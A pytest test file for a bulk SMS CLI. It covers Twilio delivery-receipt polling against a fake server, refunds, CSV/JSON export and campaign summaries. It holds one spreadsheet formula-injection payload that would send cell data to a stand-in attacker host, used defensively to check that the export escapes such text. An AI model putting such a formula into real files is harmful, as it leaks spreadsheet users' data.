"""After the send: polling receipts (campaigns refresh), the export, and campaigns show's delivery counts.

Campaigns go through the real CLI to the outbox or to a fake Twilio (a local pytest-httpserver that
creates messages and answers ``GET …/Messages/{Sid}.json`` with the status a test gives each number).
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from pytest_httpserver import HTTPServer
from sendhelpers import ledger_rows, mobile, states, write_campaign
from test_provider_contract import ACCOUNT_SID, CANARY, fake_api_server, twilio_error, twilio_message
from webhook_helpers import ledger_backend_fixture  # noqa: F401 - the ledger_backend fixture
from werkzeug import Request, Response

from bulksend import codes
from bulksend.config import Config
from bulksend.errors import ConfigError
from bulksend.ledger import NewTransmission, SqliteLedger, open_ledger
from bulksend.providers.base import Profile, StatusKind
from bulksend.providers.twilio import TwilioProvider

REQUIRED_COLUMNS = [
    "row", "e164", "state", "provider", "provider_id", "error_code", "error_text", "segments", "credits_debited",
    "credits_refunded", "queued_at", "sent_at", "delivered_at",
]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


class FakeTwilioStatuses:
    """Creates messages (201 with a sid, or the error a test gives a number) and answers fetches by sid."""

    def __init__(self, server: HTTPServer) -> None:
        self.lock = threading.Lock()
        self.refuse: dict[str, tuple[int, str]] = {}  # number → (Twilio code, message) on create
        self.status: dict[str, dict] = {}  # number → fields of the fetched Message (status, error_code…)
        self.broken: set[str] = set()  # numbers whose fetch answers 500
        self.sids: dict[str, str] = {}  # number → sid
        self.fetched: list[str] = []  # sids fetched, in order
        self.auth: set[str] = set()
        server.expect_request(re.compile(r".*/Messages\.json$"), method="POST").respond_with_handler(self.create)
        server.expect_request(re.compile(r".*/Messages/[^/]+\.json$"), method="GET").respond_with_handler(self.fetch)

    def create(self, request: Request) -> Response:
        to = request.form["To"]
        if to in self.refuse:
            code, message = self.refuse[to]
            return Response(json.dumps(twilio_error(code, message)), 400, content_type="application/json")
        with self.lock:
            sid = "SM" + f"{len(self.sids) + 1:032x}"
            self.sids[to] = sid
        return Response(json.dumps(twilio_message(sid=sid, to=to)), 201, content_type="application/json")

    def fetch(self, request: Request) -> Response:
        sid = request.path.rsplit("/", 1)[1][: -len(".json")]
        with self.lock:
            self.fetched.append(sid)
            self.auth.add(request.headers.get("Authorization", ""))
        to = next((n for n, s in self.sids.items() if s == sid), None)
        if to is None:
            return Response(json.dumps(twilio_error(20404, "not found", 404)), 404, content_type="application/json")
        if to in self.broken:
            return Response(json.dumps(twilio_error(20500, "Internal Server Error", 500)), 500,
                            content_type="application/json")
        fields = {"status": "sent", **self.status.get(to, {})}
        return Response(json.dumps(twilio_message(sid=sid, to=to, **fields)), 200, content_type="application/json")


@pytest.fixture
def api() -> Iterator[HTTPServer]:
    with fake_api_server() as server:
        yield server


@pytest.fixture
def twilio(api, home, cli, monkeypatch) -> FakeTwilioStatuses:
    """A funded home whose ``fake`` profile is Twilio at the fake API."""
    monkeypatch.setenv("TWILIO_AUTH_TOKEN", CANARY)
    configure(home, api.url_for("/").rstrip("/"))
    assert cli("credits", "topup", 1000, "--channel", "sms").exit_code == 0
    return FakeTwilioStatuses(api)


def configure(home: Path, url: str, rate: float = 0) -> None:
    (home / "config.toml").write_text(
        f'[providers.fake]\ntype = "twilio"\naccount_sid = "{ACCOUNT_SID}"\nsender = "+15005550006"\n'
        f'base_url = "{url}"\nrate = {rate}\nreconcile_after = 0\n'
    )


def sent_through_twilio(cli, twilio: FakeTwilioStatuses, tmp_path: Path, n: int = 6) -> list[str]:
    """A campaign "spring" of ``n`` numbers; the last one is refused on create (21211, a formula as text)."""
    numbers = [mobile(i) for i in range(n)]
    twilio.refuse[numbers[-1]] = (21211, FORMULA)
    campaign, _ = write_campaign(tmp_path, "spring", n, provider="fake")
    result = cli("send", campaign, "--yes")
    assert result.exit_code == 4, result.stderr  # finished, one failure
    return numbers


def refresh_json(cli) -> dict:
    result = cli("campaigns", "refresh", "spring", "--json")
    assert result.exit_code == 0, result.stderr
    return json.loads(result.stdout)


def read_export(text: str) -> tuple[list[str], dict[str, dict[str, str]]]:
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    return header, {row[1]: dict(zip(header, row)) for row in rows[1:]}


# --- campaigns refresh --------------------------------------------------------------------------------


def test_refresh_records_final_statuses_and_a_rerun_asks_only_what_is_left(cli, twilio, home, tmp_path):
    numbers = sent_through_twilio(cli, twilio, tmp_path)
    twilio.status[numbers[0]] = {"status": "delivered"}
    twilio.status[numbers[1]] = {"status": "undelivered", "error_code": 30003, "error_message": "Unreachable handset"}
    twilio.status[numbers[2]] = {"status": "sent"}  # handed to the carrier, no receipt yet
    twilio.status[numbers[3]] = {"status": "failed", "error_code": 30008, "error_message": "Unknown error"}
    twilio.broken.add(numbers[4])

    doc = refresh_json(cli)
    assert {k: doc[k] for k in ("asked", "delivered", "undelivered", "pending", "cannot_tell", "awaiting")} == {
        "asked": 5, "delivered": 1, "undelivered": 2, "pending": 1, "cannot_tell": 1, "awaiting": 2,
    }
    assert doc["counts"] == states({"delivered": 1, "undelivered": 2, "sent": 2, "failed": 1})
    assert doc["interrupted"] is False and doc["can_fetch_status"] is True
    assert twilio.fetched == [twilio.sids[n] for n in numbers[:5]]  # every accepted row, in order, once
    rows = ledger_rows(home, "spring")
    assert rows[numbers[0]] == ("delivered", 1, None)
    assert rows[numbers[1]] == ("undelivered", 1, "30003")
    assert rows[numbers[2]] == ("sent", 1, None)
    assert rows[numbers[3]] == ("undelivered", 1, "30008")
    assert rows[numbers[4]] == ("sent", 1, None)

    # Later: the rest is final. Only the two rows still `sent` are asked about.
    twilio.fetched.clear()
    twilio.status[numbers[2]] = {"status": "delivered"}
    twilio.broken.clear()
    twilio.status[numbers[4]] = {"status": "read"}  # WhatsApp's "read" counts as delivered
    doc = refresh_json(cli)
    assert twilio.fetched == [twilio.sids[numbers[2]], twilio.sids[numbers[4]]]
    assert (doc["delivered"], doc["awaiting"]) == (2, 0)

    twilio.fetched.clear()
    assert refresh_json(cli)["asked"] == 0
    assert twilio.fetched == []
    assert cli("credits", "audit").exit_code == 0


def test_refresh_refunds_a_provider_fault_once_and_never_a_recipients(cli, twilio, home, tmp_path):
    numbers = sent_through_twilio(cli, twilio, tmp_path, n=4)
    twilio.status[numbers[0]] = {"status": "failed", "error_code": 30008, "error_message": "Unknown error"}
    twilio.status[numbers[1]] = {"status": "undelivered", "error_code": 30003}
    twilio.status[numbers[2]] = {"status": "delivered", "date_updated": "Tue, 24 Nov 2026 12:00:05 +0000"}

    doc = refresh_json(cli)
    assert (doc["undelivered"], doc["refunded"], doc["delivered"]) == (2, 1, 1)
    with open_ledger(Config(home=home)) as ledger:
        rows = {r.e164: r for r in ledger.transmissions(ledger.get_campaign("spring").id)}
        refunds = [(m.transmission_id, m.amount) for m in ledger.history("sms") if m.kind == "refund"]
    provider_fault, recipient_fault, delivered = (rows[n] for n in numbers[:3])
    assert (provider_fault.state, provider_fault.debited, provider_fault.refunded) == ("undelivered", 1, 1)
    assert (recipient_fault.state, recipient_fault.debited, recipient_fault.refunded) == ("undelivered", 1, 0)
    assert refunds == [(provider_fault.id, 1)]
    assert refresh_json(cli)["asked"] == 0  # nothing left to ask, nothing refunded twice
    assert cli("credits", "audit").exit_code == 0

    # The export's delivered_at is the provider's own time of delivery (the receipt's reported_at).
    header, exported = read_export(cli("campaigns", "export", "spring").stdout)
    assert delivered.reported_at == "2026-11-24T12:00:05.000Z"
    assert exported[numbers[2]]["delivered_at"] == "2026-11-24T12:00:05.000Z"


def test_a_stopped_refresh_keeps_what_it_learned_and_the_next_one_continues(cli, twilio, home, tmp_path):
    from bulksend.refresh import refresh

    numbers = sent_through_twilio(cli, twilio, tmp_path)
    for number in numbers[:5]:
        twilio.status[number] = {"status": "delivered"}
    stop = threading.Event()
    # Ctrl-C sets this event (campaign.stop_on_signals); here it is set once the first answer is recorded.
    first = refresh(Config.load(home), "spring", stop=stop, progress=lambda report: stop.set())
    assert (first.interrupted, first.asked, first.delivered, first.awaiting) == (True, 1, 1, 4)
    assert ledger_rows(home, "spring")[numbers[0]][0] == "delivered"
    assert [ledger_rows(home, "spring")[n][0] for n in numbers[1:5]] == ["sent"] * 4

    twilio.fetched.clear()
    second = refresh(Config.load(home), "spring")
    assert twilio.fetched == [twilio.sids[n] for n in numbers[1:5]]
    assert (second.interrupted, second.delivered, second.awaiting) == (False, 4, 0)


def test_an_interrupted_refresh_exits_130(cli, twilio, tmp_path, monkeypatch):
    sent_through_twilio(cli, twilio, tmp_path)

    def interrupted(config, key, *, stop, progress):
        from bulksend.refresh import RefreshReport

        return RefreshReport("spring", 1, "fake", "twilio", True, asked=1, interrupted=True, awaiting=4)

    monkeypatch.setattr("bulksend.refresh.refresh", interrupted)
    result = cli("campaigns", "refresh", "spring")
    assert result.exit_code == 130
    assert "Interrupted: 4 still await a receipt; run it again to continue." in result.stdout


def test_refresh_asks_at_the_profiles_rate(cli, twilio, api, home, tmp_path, monkeypatch):
    sent_through_twilio(cli, twilio, tmp_path)
    configure(home, api.url_for("/").rstrip("/"), rate=7)
    rates = []

    class Recording:
        def __init__(self, rate):
            rates.append(rate)

        def acquire(self, halt):
            return not halt.is_set()

    monkeypatch.setattr("bulksend.refresh.TokenBucket", Recording)
    assert refresh_json(cli)["asked"] == 5
    assert rates == [7.0]


def test_providers_that_cannot_be_asked_point_to_webhooks_without_needing_credentials(cli, home):
    (home / "config.toml").write_text(
        '[providers.vonage-eu]\ntype = "vonage"\napi_key = "k"\nsender = "Shop"\n'
    )
    assert cli("credits", "topup", 1000, "--channel", "sms").exit_code == 0
    with open_ledger(Config(home=home)) as ledger:
        ledger.open_campaign("autumn", "sms", "vonage-eu", "fp")
    result = cli("campaigns", "refresh", "autumn")
    assert result.exit_code == 0, result.stderr
    assert "'vonage-eu' (vonage), which cannot be asked for delivery status" in result.stdout
    assert "bulksend webhooks serve" in result.stdout
    doc = json.loads(cli("campaigns", "refresh", "autumn", "--json").stdout)
    assert (doc["can_fetch_status"], doc["asked"]) == (False, 0)


def test_refresh_of_an_outbox_campaign_says_no_receipt_will_come(cli, home, tmp_path):
    assert cli("credits", "topup", 1000, "--channel", "sms").exit_code == 0
    campaign, _ = write_campaign(tmp_path, "rehearsal", 2)
    assert cli("send", campaign, "--yes").exit_code == 0
    result = cli("campaigns", "refresh", "rehearsal")
    assert result.exit_code == 0
    assert "no receipt will ever come" in result.stdout


# --- Twilio's fetch, answer by answer -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fields", "kind", "code"),
    [
        ({"status": "delivered"}, StatusKind.DELIVERED, None),
        ({"status": "read"}, StatusKind.DELIVERED, None),
        ({"status": "undelivered", "error_code": 30005}, StatusKind.UNDELIVERED, "30005"),
        ({"status": "failed", "error_code": 30007}, StatusKind.UNDELIVERED, "30007"),
        ({"status": "canceled"}, StatusKind.UNDELIVERED, None),
        ({"status": "queued"}, StatusKind.PENDING, None),
        ({"status": "accepted"}, StatusKind.PENDING, None),
        ({"status": "sending"}, StatusKind.PENDING, None),
        ({"status": "sent"}, StatusKind.PENDING, None),
    ],
)
def test_twilio_fetch_status_reads_the_message_status(api, tmp_path, fields, kind, code):
    sid = "SM" + "a" * 32
    path = f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/{sid}.json"
    api.expect_request(path, method="GET").respond_with_json(twilio_message(sid=sid, **fields))
    provider = TwilioProvider(Profile("t", "twilio", {"account_sid": ACCOUNT_SID, "sender": "+15005550006",
                                                      "base_url": api.url_for("/").rstrip("/")}), CANARY, tmp_path)
    try:
        status = provider.fetch_status(sid)
    finally:
        provider.close()
    assert (status.kind, status.code, status.status) == (kind, code, fields["status"])
    assert status.at is not None  # Twilio's date_updated


@pytest.mark.parametrize(
    ("http", "body", "headers"),
    [(404, twilio_error(20404, "not found", 404), {}), (500, twilio_error(20500, "oops", 500), {}),
     (429, twilio_error(20429, "Too Many Requests", 429), {"Retry-After": "2"}), (200, {"no": "status"}, {})],
)
def test_twilio_fetch_status_cannot_tell_on_other_answers(api, tmp_path, http, body, headers):
    sid = "SM" + "b" * 32
    api.expect_request(f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/{sid}.json").respond_with_json(
        body, status=http, headers=headers
    )
    provider = TwilioProvider(Profile("t", "twilio", {"account_sid": ACCOUNT_SID, "sender": "+15005550006",
                                                      "base_url": api.url_for("/").rstrip("/")}), CANARY, tmp_path)
    try:
        status = provider.fetch_status(sid)
    finally:
        provider.close()
    assert status.kind is StatusKind.CANNOT
    assert status.retry_after == (2.0 if http == 429 else None)
    assert CANARY not in repr(status)


def test_twilio_fetch_status_refused_credentials_stop_with_exit_6(api, tmp_path):
    sid = "SM" + "c" * 32
    api.expect_request(f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/{sid}.json").respond_with_json(
        twilio_error(20003, "Authenticate", 401), status=401
    )
    provider = TwilioProvider(Profile("t", "twilio", {"account_sid": ACCOUNT_SID, "sender": "+15005550006",
                                                      "base_url": api.url_for("/").rstrip("/")}), CANARY, tmp_path)
    try:
        with pytest.raises(ConfigError) as caught:
            provider.fetch_status(sid)
    finally:
        provider.close()
    assert caught.value.exit_code == 6
    assert CANARY not in str(caught.value)


def test_providers_that_cannot_be_asked_answer_cannot(tmp_path):
    from bulksend.providers.outbox import OutboxProvider

    outbox = OutboxProvider(Profile("outbox", "outbox"), None, tmp_path)
    assert (outbox.can_fetch_status, outbox.fetch_status("outbox-1").kind) == (False, StatusKind.CANNOT)


# --- the export -----------------------------------------------------------------------------------------


def test_export_columns_and_values_through_the_outbox(ledger_backend, cli, home, tmp_path):
    """On either ledger backend (a PostgreSQL ledger through BULKSEND_LEDGER_URL): the same columns and values."""
    assert cli("credits", "topup", 1000, "--channel", "sms").exit_code == 0
    campaign, numbers = write_campaign(tmp_path, "spring", 3, message="Hi {name}")
    assert cli("send", campaign, "--yes").exit_code == 0
    with open_ledger(Config.load(home)) as ledger:
        first = ledger.transmissions(ledger.get_campaign("spring").id)[0]
        ledger.mark_report(first.id, "delivered")
        reported = ledger.transmission(first.id)

    result = cli("campaigns", "export", "spring")
    assert result.exit_code == 0, result.stderr
    header, rows = read_export(result.stdout)
    assert header[:13] == REQUIRED_COLUMNS
    delivered, sent = rows[numbers[0]], rows[numbers[1]]
    assert {k: delivered[k] for k in ("row", "e164", "state", "provider", "provider_id", "segments",
                                      "credits_debited", "credits_refunded")} == {
        "row": "1", "e164": numbers[0], "state": "delivered", "provider": "outbox", "provider_id": "outbox-1",
        "segments": "1", "credits_debited": "1", "credits_refunded": "0",
    }
    assert delivered["delivered_at"] == reported.updated_at  # when the receipt was recorded
    assert delivered["queued_at"] == reported.created_at and delivered["sent_at"] == reported.sent_at
    assert sent["state"] == "sent" and sent["delivered_at"] == "" and sent["sent_at"]
    assert [r["row"] for r in rows.values()] == ["1", "2", "3"]

    as_json = json.loads(cli("campaigns", "export", "spring", "--json").stdout)
    assert as_json["campaign"] == "spring" and as_json["columns"][:13] == REQUIRED_COLUMNS
    assert as_json["rows"][0]["row"] == 1 and as_json["rows"][0]["credits_debited"] == 1
    assert as_json["rows"][1]["delivered_at"] is None
    assert [r["e164"] for r in as_json["rows"]] == numbers


def test_export_through_twilio_is_spreadsheet_safe_and_explains_codes(cli, twilio, home, tmp_path):
    numbers = sent_through_twilio(cli, twilio, tmp_path)
    twilio.status[numbers[0]] = {"status": "delivered"}
    twilio.status[numbers[1]] = {"status": "undelivered", "error_code": 30003, "error_message": "-2+3 unreachable"}
    refresh_json(cli)
    out = tmp_path / "export.csv"
    result = cli("campaigns", "export", "spring", "--output", out)
    assert result.exit_code == 0, result.stderr
    assert result.stdout == ""
    assert f"Wrote 6 rows of 'spring' to {out}." in result.stderr
    written = out.read_bytes().decode("utf-8")
    assert written.count("\r\n") == 7 and "\n" not in written.replace("\r\n", "")  # CR LF, as every bulksend CSV
    _, rows = read_export(written)
    refused = rows[numbers[-1]]
    assert (refused["state"], refused["error_code"], refused["credits_debited"]) == ("failed", "21211", "0")
    assert refused["error_text"] == "'" + FORMULA  # a spreadsheet shows it, never runs it
    assert refused["error_meaning"] == "invalid 'To' phone number"
    assert refused["provider_id"] == "" and refused["provider"] == "fake"
    undelivered = rows[numbers[1]]
    assert undelivered["error_text"] == "'-2+3 unreachable"
    assert undelivered["error_meaning"].startswith("unreachable destination handset")
    assert rows[numbers[0]]["provider_id"] == twilio.sids[numbers[0]] and rows[numbers[0]]["delivered_at"]
    assert rows[numbers[0]]["e164"] == numbers[0]  # a plain number stays as it is
    assert CANARY not in out.read_text(encoding="utf-8")


def test_export_never_writes_over_the_ledger(cli, home, tmp_path):
    assert cli("credits", "topup", 1000, "--channel", "sms").exit_code == 0
    campaign, _ = write_campaign(tmp_path, "spring", 2)
    assert cli("send", campaign, "--yes").exit_code == 0
    before = (home / "ledger.db").read_bytes()
    result = cli("campaigns", "export", "spring", "--output", home / "ledger.db")
    assert result.exit_code == 2
    assert "--output" in result.stderr
    assert (home / "ledger.db").read_bytes() == before


def test_export_of_an_unknown_campaign_exits_2(cli, home):
    assert cli("credits", "topup", 1000, "--channel", "sms").exit_code == 0
    result = cli("campaigns", "export", "nope")
    assert result.exit_code == 2
    assert "no campaign 'nope' in the ledger." in result.stderr


def test_export_streams_a_large_campaign_page_by_page(cli, home, monkeypatch):
    """20,050 rows: the ledger is read in pages of at most 1,000, and rows are written before the next page
    is read (never the whole campaign at once); the unpaged reader is never used."""
    from bulksend import reports

    assert cli("credits", "topup", 1000, "--channel", "sms").exit_code == 0
    n = 20_050
    with open_ledger(Config(home=home)) as ledger:
        c = ledger.open_campaign("big", "sms", "outbox", "fp")
        ledger.add_transmissions(
            c.id, (NewTransmission(f"+4474{i:08d}", "Hi", 1, 1, row_number=i + 1, country="GB") for i in range(n))
        )
    events: list[tuple[str, int]] = []
    page_reader = SqliteLedger.transmission_page

    def counted_page(self, campaign_id, after_id=0, limit=1000, states=None):
        page = page_reader(self, campaign_id, after_id, limit, states)
        events.append(("page", len(page)))
        assert limit <= 1000
        return page

    def whole(*args, **kwargs):
        raise AssertionError("the export read the whole campaign at once")

    monkeypatch.setattr(SqliteLedger, "transmission_page", counted_page)
    monkeypatch.setattr(SqliteLedger, "transmissions", whole)

    class Sink(io.StringIO):
        def write(self, text):
            if text.count("\r\n"):
                events.append(("rows", text.count("\r\n")))
            return super().write(text)

    sink = Sink()
    result = reports.export_campaign(Config(home=home), "big", output=None, as_json=False, stdout=sink)
    assert result.rows == n
    assert sink.getvalue().count("\r\n") == n + 1
    pages = [size for kind, size in events if kind == "page"]
    assert sum(pages) == n and len(pages) == 21
    # Streaming: between two page reads, the previous page's rows were already written out.
    first_page, second_page = [i for i, (kind, _) in enumerate(events) if kind == "page"][:2]
    assert sum(size for kind, size in events[first_page:second_page] if kind == "rows") >= 999


# --- campaigns show ----------------------------------------------------------------------------------------


def test_show_gives_delivery_counts_and_what_each_failure_code_means(cli, twilio, home, tmp_path):
    numbers = sent_through_twilio(cli, twilio, tmp_path)
    twilio.status[numbers[0]] = {"status": "delivered"}
    twilio.status[numbers[1]] = {"status": "delivered"}
    twilio.status[numbers[2]] = {"status": "undelivered", "error_code": 30003}
    refresh_json(cli)

    shown = cli("campaigns", "show", "spring")
    assert shown.exit_code == 0, shown.stderr
    lines = shown.stdout.splitlines()
    assert "  delivery: 2 delivered, 1 undelivered, 2 awaiting a receipt (of 5 accepted)" in lines
    assert "  failures by code:" in lines
    assert "    21211 ×1 (failed): invalid 'To' phone number" in lines
    assert "    30003 ×1 (undelivered): unreachable destination handset (off, out of coverage, or no service)" in lines

    doc = json.loads(cli("campaigns", "show", "spring", "--json").stdout)
    assert doc["delivery"] == {"accepted": 5, "delivered": 2, "undelivered": 1, "awaiting": 2}
    assert doc["failures_explained"] == [
        {"state": "failed", "code": "21211", "count": 1, "meaning": "invalid 'To' phone number"},
        {"state": "undelivered", "code": "30003", "count": 1,
         "meaning": "unreachable destination handset (off, out of coverage, or no service)"},
    ]
    assert doc["failures"] == {"21211": 1}


# --- what codes mean ------------------------------------------------------------------------------------


def test_a_code_means_what_its_provider_and_moment_say():
    assert codes.meaning("vonage", "9", "failed") == "partner quota exceeded: not enough credit"
    assert codes.meaning("vonage", "9", "undelivered").startswith("illegal number")
    assert codes.meaning("twilio", "30008", "undelivered") == "unknown error (from the carrier or Twilio)"
    assert codes.meaning("whatsapp", "131047") .startswith("more than 24 hours")
    assert codes.meaning("twilio", "read_timeout") == codes.BULKSEND["read_timeout"]
    assert codes.meaning("http", "http_503").startswith("the provider answered HTTP 503")
    assert codes.meaning("twilio", "99999") is None
    assert codes.meaning(None, "30003") is None  # the profile is gone: no guess
    assert codes.meaning("twilio", None) is None


def test_ledger_rows_left_unchanged_by_export(cli, home, tmp_path):
    assert cli("credits", "topup", 1000, "--channel", "sms").exit_code == 0
    campaign, _ = write_campaign(tmp_path, "spring", 3)
    assert cli("send", campaign, "--yes").exit_code == 0
    conn = sqlite3.connect(home / "ledger.db")
    before = conn.execute("SELECT * FROM transmissions ORDER BY id").fetchall()
    assert cli("campaigns", "export", "spring", "--json").exit_code == 0
    assert conn.execute("SELECT * FROM transmissions ORDER BY id").fetchall() == before
    conn.close()
